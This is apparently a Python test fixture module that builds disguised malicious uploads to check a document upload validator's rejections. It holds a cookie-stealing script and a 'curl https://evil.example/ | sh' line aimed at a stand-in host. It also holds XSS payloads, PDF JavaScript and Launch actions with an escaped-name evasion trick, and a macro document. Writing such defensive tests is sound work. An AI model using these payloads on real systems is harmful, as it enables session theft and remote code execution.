"""Uploads that lie about what they are, built here (issue 15 point 3), with the message each
must be refused with. Shared by the unit tests and the page tests."""

import io
import zipfile

from tests.dhr.files.test_uploads import SMALL_PDF, WINDOWS_PROGRAM, docx_bytes, zip_bytes

HTML = b"<!DOCTYPE html><html><body><script>fetch('https://evil.example/'+document.cookie)</script>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/ | sh\n"
IMG_XSS = b"Meeting notes\n<img src=x onerror=alert(1)>\n"


def pdf_with(extra_catalogue: bytes, extra_objects: bytes = b"") -> bytes:
    """A one-page PDF whose catalogue has ``extra_catalogue`` (cross-reference offsets are
    left for the reader to repair, as viewers do)."""
    return (
        b"%PDF-1.4\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra_catalogue + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
        + extra_objects
        + b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
    )


# The same action with its names written in PDF's #-escapes ("/Java#53cript" is
# "/JavaScript"): invisible to a search of the raw bytes, found by reading the objects.
PDF_JS_ESCAPED = pdf_with(
    b"/OpenAction 4 0 R", b"4 0 obj\n<< /S /Java#53cript /J#53 (app.alert(1)) >>\nendobj\n"
)


def pdf_with_attachment() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("payload.exe", WINDOWS_PROGRAM)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


PDF_JS = pdf_with(
    b"/OpenAction 4 0 R", b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
)
PDF_LAUNCH = pdf_with(b"/OpenAction 4 0 R", b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n")

WRONG = "The selected file must be a PDF, Word or OpenDocument file"
MARKUP = (
    "The selected file is a web page, an SVG image, XML or a script, which cannot be uploaded: "
    "save it as a PDF or Word document"
)
JS = "The selected PDF contains JavaScript, which could run when it is opened"
LAUNCH = "The selected PDF can start other programs when it is opened"
EMBEDDED = "The selected PDF has files embedded in it"
NOT_WORD = "The selected file is not a real Word document"
MACROS = "The selected file contains macros"
MISNAMED_PDF = (
    "The selected file is a PDF file but its name ends in “.docx”: check it is the file you "
    "meant, and rename it to end in “.pdf”"
)


def _zip_of_something_else() -> bytes:
    # A ZIP that names a Word folder but has no document part, content types of nothing.
    return zip_bytes({"[Content_Types].xml": b"<Types/>", "word/evil.js": b"alert(1)"})


def _macro_docx() -> bytes:
    return docx_bytes(**{"word/vbaProject.bin": b"\x00macro"})


def _program_in_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("setup.exe", WINDOWS_PROGRAM)
    return buffer.getvalue()


# (file name, content, the start of the message the user sees) for a report upload page,
# which takes PDF, Word and OpenDocument files.
LYING_REPORTS = [
    ("report.pdf", HTML, MARKUP),
    ("report.docx", SVG, MARKUP),
    ("report.txt", HTML, MARKUP),
    ("report.pdf", SCRIPT, MARKUP),
    ("report.pdf", WINDOWS_PROGRAM, WRONG),
    ("report.docx", _program_in_zip(), WRONG),
    ("report.docx", _zip_of_something_else(), NOT_WORD),
    ("report.docx", _macro_docx(), MACROS),
    ("report.docx", SMALL_PDF, MISNAMED_PDF),
    ("report.pdf", PDF_JS, JS),
    ("report.pdf", PDF_LAUNCH, LAUNCH),
]
LYING_IDS = [
    "html-as-pdf",
    "svg-as-docx",
    "html-as-txt",
    "script-as-pdf",
    "program-as-pdf",
    "zip-of-a-program-as-docx",
    "zip-of-something-else-as-docx",
    "docx-with-macros",
    "pdf-named-docx",
    "pdf-with-javascript",
    "pdf-with-launch-action",
]
